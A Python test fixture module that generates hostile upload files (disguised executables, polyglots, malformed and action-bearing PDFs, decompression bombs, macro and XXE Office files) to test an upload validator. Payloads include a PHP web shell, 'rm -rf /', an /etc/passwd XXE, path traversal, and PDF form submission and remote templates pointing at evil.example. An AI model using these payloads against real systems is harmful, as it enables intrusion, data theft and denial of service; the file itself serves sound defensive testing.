"""More than a hundred hostile files, made anew for each run: nothing of the kind lies in the repository.

Each is a name, its bytes, and whether it must be refused (else it may also be kept, for download only).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from tests.support.upload_files import a_pdf, a_picture

REFUSED, INERT = "refused", "inert"
SCRIPT = b"<script>alert(document.cookie)</script>"
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes
    outcome: str = REFUSED


def hostile_files() -> Iterator[Hostile]:
    """All of them, by what they try."""
    yield from _disguised()
    yield from _polyglots()
    yield from _broken()
    yield from _acting_pdfs()
    yield from _bombs()
    yield from _office()
    yield from _recordings()


def a_zip(parts: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()


def a_docx(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<document/>"}
    return a_zip(parts | {name.replace("__", "/").replace("_DOT_", "."): body for name, body in more.items()})


def an_office_file(base: dict[str, bytes]) -> bytes:
    return a_zip({"[Content_Types].xml": CONTENT_TYPES, **base})


WORD = {"word/document.xml": b"<document/>"}
EXCEL = {"xl/workbook.xml": b"<workbook/>"}
OFD = {"OFD.xml": b"<OFD/>"}


def _disguised() -> Iterator[Hostile]:
    programs = {
        "exe": b"MZ\x90\x00" + bytes(400),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(400),
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
        "html": b"<!doctype html>" + SCRIPT,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
        "js": b"fetch('/cases/')",
        "php": b"<?php system($_GET['c']); ?>",
        "hta": b"<hta:application>" + SCRIPT,
        "rar": b"Rar!\x1a\x07\x00" + bytes(100),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
        "gz": b"\x1f\x8b\x08" + bytes(100),
        "rtf": b"{\\rtf1\\object\\objdata 0105}",
        "gif": b"GIF89a" + SCRIPT,
        "bmp": b"BM" + SCRIPT + bytes(100),
        "tif": b"II*\x00" + bytes(200),
        "webp": b"RIFF\x00\x01\x00\x00WEBPVP8 " + bytes(100),
        "heic": b"\x00\x00\x00\x18ftypheic" + bytes(100),
        "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
        "vbs": b'CreateObject("WScript.Shell").Run "calc"',
    }
    for extension, content in programs.items():
        yield Hostile(f"合同.{extension}", content)
        yield Hostile(f"{extension}证据.pdf", content)
    for extension in ("jpg", "docx", "ofd", "mp4"):
        yield Hostile(f"照片.{extension}", programs["exe"])
        yield Hostile(f"网页.{extension}", programs["html"])
    yield Hostile("发票.pdf.exe", a_pdf())
    yield Hostile("图片.html", a_picture())
    yield Hostile("a\u202efdp.exe", a_pdf())
    yield Hostile("起诉状.docx", a_pdf())
    yield Hostile("合同.pdf", a_zip({"a.txt": b"a"}))
    yield Hostile("材料.zip", a_zip({"a.txt": b"a"}))
    yield Hostile("空.pdf", b"")


def _polyglots() -> Iterator[Hostile]:
    archive = a_zip({"evil.js": b"alert(1)"})
    pdf, photo, picture = a_pdf(), a_picture(), a_picture("PNG")
    for name, body in (("a.pdf", pdf), ("b.jpg", photo), ("c.png", picture)):
        yield Hostile(f"zip-{name}", body + archive)
        yield Hostile(f"script-{name}", body + b"\n" * 40 + SCRIPT)
        yield Hostile(f"php-{name}", body + b"<?php phpinfo(); ?>")
        yield Hostile(f"exe-{name}", body + b"MZ\x90\x00" + bytes(300))
        yield Hostile(f"rar-{name}", body + b"Rar!\x1a\x07\x00" + bytes(99))
    yield Hostile("pdf-in-photo.jpg", photo + pdf)
    yield Hostile("html-in-pdf.pdf", b"%PDF-1.7\n<html>" + SCRIPT + pdf)
    yield Hostile("late.pdf", b"junk\n" + pdf)
    yield Hostile("html-first.pdf", SCRIPT + pdf)
    yield Hostile("trailing.pdf", pdf + b"A" * 5000)
    yield Hostile("zip-in-front.docx", b"%PDF-1.4\n" + a_docx())
    yield Hostile("commented.docx", _with_comment(a_docx(), SCRIPT))
    yield Hostile("appended.docx", a_docx() + SCRIPT)
    yield Hostile("doubled.docx", a_docx() + a_docx())


def _with_comment(archive: bytes, comment: bytes) -> bytes:
    return archive[:-2] + struct.pack("<H", len(comment)) + comment


def _broken() -> Iterator[Hostile]:
    pdf, photo, picture = a_pdf("x", 3), a_picture(size=(900, 900)), a_picture("PNG", size=(900, 900))
    for name, body in (("a.pdf", pdf), ("b.jpg", photo), ("c.png", picture), ("d.docx", a_docx())):
        yield Hostile(f"half-{name}", body[: len(body) // 2])
        yield Hostile(f"head-{name}", body[:20])
        yield Hostile(f"zeros-{name}", body[:16] + bytes(len(body)))
    yield Hostile("no-pages.pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
    yield Hostile("loop.pdf", _raw_pdf(b"<</Type/Pages/Kids[2 0 R]/Count 1>>"))
    yield Hostile("deep.pdf", _raw_pdf(b"[" * 5000 + b"]" * 5000))
    yield Hostile("million-pages.pdf", _raw_pdf(b"<</Type/Pages/Kids[" + b"2 0 R " * 300 + b"]/Count 1000000>>"))
    yield Hostile("bad-xref.pdf", b"%PDF-1.4\n" + b"xref\n0 99999999\n" * 50 + b"startxref\n9\n%%EOF")
    yield Hostile("locked.pdf", _locked())


def _raw_pdf(pages: bytes) -> bytes:
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj" + pages + b"endobj\n"
    return body + b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF"


def _locked() -> bytes:
    writer = PdfWriter(PdfReader(io.BytesIO(a_pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _acting_pdfs() -> Iterator[Hostile]:
    def opens(action: dict) -> bytes:
        writer = PdfWriter(PdfReader(io.BytesIO(a_pdf())))
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject(name): value for name, value in action.items()}
        )
        return _written(writer)

    text = TextStringObject
    yield Hostile("launch.pdf", opens({"/S": NameObject("/Launch"), "/F": text("cmd.exe")}))
    yield Hostile("script.pdf", opens({"/S": NameObject("/JavaScript"), "/JS": text("app.alert(1)")}), INERT)
    yield Hostile("submit.pdf", opens({"/S": NameObject("/SubmitForm"), "/F": text("http://evil.example")}), INERT)
    yield Hostile("import.pdf", opens({"/S": NameObject("/ImportData"), "/F": text("a.fdf")}), INERT)
    yield Hostile("embedded-go.pdf", opens({"/S": NameObject("/GoToE"), "/F": text("a.pdf")}), INERT)
    yield Hostile("movie.pdf", opens({"/S": NameObject("/Rendition")}), INERT)
    writer = PdfWriter(PdfReader(io.BytesIO(a_pdf())))
    writer.add_attachment("evil.exe", b"MZ" + bytes(100))
    yield Hostile("attached.pdf", _written(writer), INERT)
    writer = PdfWriter(PdfReader(io.BytesIO(a_pdf())))
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): text("app.alert(1)")})
    names = DictionaryObject({NameObject("/Names"): ArrayObject([text("a"), writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    yield Hostile("js-name-tree.pdf", _written(writer), INERT)
    writer = PdfWriter(PdfReader(io.BytesIO(a_pdf())))
    form = DecodedStreamObject()
    form.set_data(b"<xdp/>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): ArrayObject([text("template"), writer._add_object(form)])}
    )
    yield Hostile("xfa.pdf", _written(writer), INERT)


def _png(width: int, height: int, data: bytes = b"") -> bytes:
    def chunk(name: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(data or bytes(1000))) + chunk(b"IEND", b"")


def _jpeg_of(width: int, height: int) -> bytes:
    photo = a_picture()
    at = photo.index(b"\xff\xc0")
    return photo[: at + 5] + struct.pack(">HH", height, width) + photo[at + 9 :]


def _bombs() -> Iterator[Hostile]:
    yield Hostile("huge.png", _png(100_000, 100_000))
    yield Hostile("wide.png", _png(2_000_000, 10))
    yield Hostile("claims.png", _png(30_000, 30_000))
    yield Hostile("nothing.png", _png(0, 0))
    yield Hostile("negative.png", _png(0x7FFFFFFF, 0x7FFFFFFF))
    yield Hostile("huge.jpg", _jpeg_of(65_000, 65_000))
    yield Hostile("claims.jpg", _jpeg_of(31_000, 31_000))
    zeros = bytes(30 * 1024 * 1024)
    yield Hostile("bomb.docx", an_office_file({**WORD, "word/media/a.png": zeros}))
    yield Hostile("bomb.xlsx", an_office_file({**EXCEL, "xl/a.bin": zeros}))
    yield Hostile("bomb.ofd", a_zip({**OFD, "Doc_0/Res/a.png": zeros}))
    yield Hostile("nested.docx", an_office_file({**WORD, "word/a.zip": a_zip({"b": zeros})}))
    yield Hostile("many.docx", an_office_file({**WORD, **{f"word/{n}": b"" for n in range(11_000)}}))
    yield Hostile("lies.docx", _lying(an_office_file({**WORD, "word/a.bin": bytes(5000)})))
    yield Hostile("overlap.docx", _overlapping())
    flate = zlib.compress(bytes(200 * 1024 * 1024), 9)
    pages = b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 9/First 9/Filter/FlateDecode/Length " + str(len(flate)).encode()
    yield Hostile("flate.pdf", pages + b">>stream\n" + flate + b"\nendstream endobj\nstartxref\n9\n%%EOF")
    yield Hostile("text-chunk.png", _png(10, 10)[:33] + _text_bomb() + _png(10, 10)[33:])


def _text_bomb() -> bytes:
    body = b"a\0\0" + zlib.compress(bytes(100 * 1024 * 1024), 9)
    return struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))


def _lying(archive: bytes) -> bytes:
    """The table of contents names other sizes than there are."""
    at = archive.rindex(b"PK\x01\x02")
    return archive[: at + 20] + struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF) + archive[at + 28 :]


def _overlapping() -> bytes:
    """Every entry points to the same packed bytes: small to send, large to unpack."""
    archive = an_office_file({**WORD, "word/a.bin": bytes(900_000)})
    end = archive.rindex(b"PK\x05\x06")
    table_at = struct.unpack("<I", archive[end + 16 : end + 20])[0]
    table = archive[table_at:end]
    last = table[table.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"word/a.bin", f"word/{n:05}".encode()[:10]) for n in range(400))
    entries = struct.unpack("<H", archive[end + 10 : end + 12])[0] + 400
    record = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(table + copies), table_at, 0)
    return archive[:table_at] + table + copies + record


def _office() -> Iterator[Hostile]:
    external = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    picture = external.replace(b"attachedTemplate", b"image")
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield Hostile("macros.docx", an_office_file({**WORD, "word/vbaProject.bin": b"VBA"}))
    yield Hostile("macros.xlsx", an_office_file({**EXCEL, "xl/vbaProject.bin": b"VBA"}))
    yield Hostile("renamed-docm.docx", a_zip({"[Content_Types].xml": b'<Types x="macroEnabled"/>', **WORD}))
    yield Hostile("old-macros.xlsx", an_office_file({**EXCEL, "xl/macrosheets/sheet1.xml": b"<a/>"}))
    yield Hostile("activex.docx", an_office_file({**WORD, "word/activeX/activeX1.bin": b"a"}))
    yield Hostile("template.docx", an_office_file({**WORD, "word/_rels/settings.xml.rels": external}))
    yield Hostile("remote-picture.docx", an_office_file({**WORD, "word/_rels/document.xml.rels": picture}))
    yield Hostile("program.docx", an_office_file({**WORD, "word/embeddings/a.exe": b"MZ"}))
    yield Hostile("shortcut.docx", an_office_file({**WORD, "word/a.lnk": b"L"}))
    yield Hostile("page.ofd", a_zip({**OFD, "Doc_0/a.html": SCRIPT}))
    yield Hostile("script.ofd", a_zip({**OFD, "Doc_0/a.js": b"alert(1)"}))
    yield Hostile("xxe.docx", an_office_file({"word/document.xml": entity}))
    yield Hostile("xxe.xlsx", an_office_file({"xl/workbook.xml": entity}))
    yield Hostile("xxe.ofd", a_zip({"OFD.xml": entity}))
    yield Hostile("climbs.docx", an_office_file({**WORD, "../../etc/cron.d/a": b"a"}))
    yield Hostile("absolute.ofd", a_zip({**OFD, "/etc/passwd": b"a"}))
    yield Hostile("windows.ofd", a_zip({**OFD, "C:\\a.txt": b"a"}))
    yield Hostile("no-list.docx", a_zip(WORD))
    yield Hostile("embedded.docx", an_office_file({**WORD, "word/embeddings/oleObject1.bin": b"a"}), INERT)
    yield Hostile("password.docx", _compound("EncryptedPackage"))
    yield Hostile("macros.doc", _compound("WordDocument", "_VBA_PROJECT"))
    yield Hostile("macros.xls", _compound("Workbook", "_VBA_PROJECT_CUR"))
    yield Hostile("slides.doc", _compound("PowerPoint Document"))
    yield Hostile("msi.doc", _compound("\u4840\u3f3f"))
    yield Hostile("zip-tail.doc", _compound("WordDocument") + a_zip({"a": b"a"}))
    yield Hostile("object.doc", _compound("WordDocument", "ObjectPool"), INERT)
    yield Hostile("plain.wps", _compound("WordDocument"), INERT)


def _compound(*names: str) -> bytes:
    """A compound file whose directory names these streams."""
    entries = b""
    for name in ("Root Entry", *names):
        shown = name.encode("utf-16-le")
        entry = shown.ljust(64, b"\0") + struct.pack("<H", len(shown) + 2) + bytes([2, 1])
        entries += entry.ljust(128, b"\0")
    head = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00"
    return head.ljust(512, b"\0") + entries.ljust(2048, b"\0")


def _box(name: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", 8 + len(body)) + name + body


def _recordings() -> Iterator[Hostile]:
    film = _box(b"ftyp", b"isom\0\0\0\0") + _box(b"moov", bytes(20)) + _box(b"mdat", bytes(100))
    yield Hostile("zip.mp4", film + a_zip({"a.js": b"x"}))
    yield Hostile("script.mp4", film + SCRIPT)
    yield Hostile("cut.mp4", film[:-50])
    yield Hostile("empty.mp4", _box(b"ftyp", b"isom\0\0\0\0"))
    yield Hostile("free.mp4", film + _box(b"free", SCRIPT))
    yield Hostile("plain.mp4", film, INERT)
    yield Hostile("html.mp3", b"ID3\x03" + SCRIPT)
    yield Hostile("zip.mp3", b"ID3\x03" + bytes(2000) + a_zip({"a": b"x"}))
    yield Hostile("short.wav", b"RIFF\xff\xff\xff\x0fWAVE" + bytes(100))
    yield Hostile("pdf.amr", b"#!AMR\n" + a_pdf())
